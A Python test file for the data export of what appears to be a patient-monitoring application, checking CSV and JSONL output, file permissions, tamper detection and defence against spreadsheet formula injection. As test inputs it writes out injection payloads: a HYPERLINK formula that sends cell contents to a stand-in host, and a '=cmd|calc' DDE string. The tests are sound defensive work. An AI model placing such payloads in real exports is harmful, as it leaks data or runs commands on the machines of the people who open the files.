"""What other programs read: every event, every number with unit, quality and source, and no formula in any cell."""

import csv
import json

from hypothesis import given
from hypothesis import strategies as st
from rows import each_row
from store.recorded import COUNT, session
from store.samples import NURSE, at

from ketamon.cli import main
from ketamon.domain import events as e
from ketamon.domain.devices import Priority, PumpState, PumpStatus
from ketamon.domain.parameters import Parameter
from ketamon.domain.readings import Quality, Reading
from ketamon.domain.units import Unit
from ketamon.export import cell, export

EVIL = '=HYPERLINK("http://x.example/"&A1,"click")'


def rows(path):
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def made(folder, *bodies):
    export([e.Event(seq, at(seq), body) for seq, body in enumerate(bodies, 1)], folder)
    return {path.stem: rows(path) for path in folder.glob("*.csv")}


def test_a_session_is_exported_whole(tmp_path, capsys):
    record, to = session(tmp_path), tmp_path / "out"
    assert main(["export", str(record), str(to)]) == 0
    assert capsys.readouterr().out.split() == [
        str(to / name) for name in ("events.jsonl", "readings.csv", "observations.csv", "alarms.csv")
    ]
    events = [json.loads(line) for line in (to / "events.jsonl").read_text("utf-8").splitlines()]
    assert [event["seq"] for event in events] == list(range(1, COUNT + 2))
    assert events[0]["type"] == "session-opened"
    assert events[-1]["body"]["stream"]["name"] == "one.kstream"
    assert all(path.stat().st_mode & 0o777 == 0o600 for path in to.iterdir())
    assert rows(to / "readings.csv")[0] == {
        "event": "2", "t_s": "2.0", "wall": "2026-11-21T08:00:02.000Z", "parameter": "spo2", "value": "92.0",
        "unit": "%", "quality": "valid", "source": "monitor", "site": "", "mode": "real", "repeated": "False",
        "stored": "False", "by": "",
    }  # fmt: skip


def test_nothing_is_overwritten(tmp_path, capsys):
    record = session(tmp_path)
    (tmp_path / "out").mkdir()
    assert main(["export", str(record), str(tmp_path / "out")]) == 3
    assert "choose a folder that is not there" in capsys.readouterr().err


def test_a_damaged_session_is_not_exported_to_its_end(tmp_path, forge, capsys):
    record = session(tmp_path)
    forge(record, "UPDATE events SET body = replace(body, 'note', 'lie') WHERE seq = 20")
    assert main(["export", str(record), str(tmp_path / "out")]) == 4
    assert "event 20 is not what was written" in capsys.readouterr().err


def test_a_missing_number_stays_empty_and_a_pump_has_rows_too(tmp_path):
    nothing = Reading(parameter=Parameter.SPO2, value=None, unit=Unit.PERCENT, quality=Quality.INVALID)
    status = PumpStatus(state=PumpState.INFUSING, rate=54.0, head="2")
    found = made(
        tmp_path / "out",
        e.Measured(device="monitor", offset=0, readings=(nothing,)),
        e.PumpReported(device="pump", offset=0, status=status),
        e.ValueEntered(reading=nothing, by=NURSE),
    )["readings"]
    assert [(r["parameter"], r["value"], r["unit"], r["quality"], r["source"]) for r in found] == [
        ("spo2", "", "%", "invalid", "monitor"),
        ("rate", "54.0", "mL/h", "valid", "pump"),
        ("volume_infused", "", "mL", "missing", "pump"),
        ("spo2", "", "%", "invalid", "entered"),
    ]
    assert found[-1]["by"] == "nurse A. N."


def test_no_text_becomes_a_formula(tmp_path):
    alarm = e.AlarmChanged(alarm="+a", state=e.AlarmState.ACTIVE, priority=Priority.HIGH, technical=True, text=EVIL)
    found = made(
        tmp_path / "out",
        alarm,
        e.Observed(item="-mood", grade=-1, text="@SUM(A1)", by=NURSE),
        e.ObservationCorrected(corrects=2, grade=None, why="\t=1+1", by=NURSE),
        e.NotDone(item="mood", because='"\r\n=cmd|calc', by=NURSE),
    )
    assert found["alarms"][0]["text"] == f"'{EVIL}"
    assert found["alarms"][0]["alarm"] == "'+a"
    observed, corrected, not_done = found["observations"]
    assert (observed["item"], observed["text"], observed["grade"]) == ("'-mood", "'@SUM(A1)", "-1")
    assert corrected["why"] == "' =1+1"
    assert not_done["why"] == '"  =cmd|calc'


@each_row("text", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＠x"])  # noqa: RUF001 (on purpose)
def test_each_beginning_of_a_formula_is_stopped(text):
    assert cell(text).startswith("'")


@given(st.text())
def test_a_cell_is_one_line_of_letters(text):
    assert cell(text).isprintable()
    assert not cell(text).lstrip().startswith(("=", "+", "-", "@"))
